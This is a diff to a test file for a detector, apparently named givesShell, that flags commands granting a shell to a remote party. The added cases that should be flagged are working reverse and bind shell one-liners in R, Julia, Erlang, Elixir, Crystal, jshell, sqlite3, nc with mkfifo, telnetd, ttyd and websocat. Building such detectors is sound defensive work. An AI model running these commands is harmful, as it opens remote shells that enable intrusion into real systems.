@@ -44,6 +44,25 @@ describe('a shell for whoever is at the other end', () => {
     [
       'echo \'package main;func main(){c,_:=net.Dial("tcp","x:1");m:=exec.Command("/bin/sh");m.Stdin=c;m.Run()}\' > t.go && go run t.go',
     ],
+    ['R -e \'s=socketConnection("x",1,open="r+");while(T)writeLines(system(readLines(s,1),intern=T),s)\''],
+    [
+      'julia -e \'using Sockets; s=connect("x",1); while true; c=readline(s); write(s, read(`sh -c $c`)); end\'',
+    ],
+    [
+      'erl -noshell -eval \'{ok,S}=gen_tcp:connect("x",1,[]),receive {tcp,S,D}->gen_tcp:send(S,os:cmd(D)) end\'',
+    ],
+    ['elixir -e \'{:ok,s}=:gen_tcp.connect({1,1,1,1},1,[]);:gen_tcp.send(s,:os.cmd(~c"id"))\''],
+    ['crystal eval \'require "socket";c=TCPSocket.new("x",1);Process.new(c.gets,shell:true)\''],
+    [
+      'echo \'Runtime.getRuntime().exec(new String[]{"bash","-c","exec 5<>/dev/tcp/x/1;cat <&5"})\' | jshell -',
+    ],
+    ["sqlite3 /dev/null '.shell cat /tmp/f|sh -i 2>&1|nc x 1 >/tmp/f'"],
+    ['mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 0.0.0.0 4444 > /tmp/f'],
+    ['DISPLAY=10.0.0.1:0 xterm'],
+    ['ttyd -p 7681 -W bash'],
+    ['busybox telnetd -l /bin/sh -p 4444'],
+    ['websocat --binary ws-l:0.0.0.0:8022 cmd:bash'],
+    ['rcat connect -s sh 10.0.0.1 9001'],
   ])('is seen in %s', command => {
     expect(givesShell(command)).toBe(true);
   });
@@ -54,6 +73,17 @@ describe('a shell for whoever is at the other end', () => {
     ['until echo > /dev/tcp/db/5432; do sleep 1; done'],
     ['bash deploy.sh | nc log.test 514'],
     ['nc -zv localhost 22'],
+    ['bash build.sh 2>&1 | nc -l 9999'],
+    ['nc -l 9999 > received.txt'],
+    ['DISPLAY=:0 xterm'],
+    ['DISPLAY=localhost:10.0 xterm'],
+    ['ttyd -p 7681 htop'],
+    ['ttyd -i lo bash'],
+    ['ttyd -c me:pw bash'],
+    ['R -e \'s=socketConnection("x",1); readLines(s,1)\''],
+    ['erl -noshell -eval \'gen_tcp:connect("x",1,[])\''],
+    ['echo \'System.out.println("nc host 22");\' | jshell -'],
+    ["sqlite3 app.db '.shell nc -z localhost 22'"],
     ['echo stats | nc localhost 11211'],
     ['socat TCP-LISTEN:8080,fork TCP:localhost:3000'],
     ['socat TCP-LISTEN:8080,fork EXEC:./serve.py'],
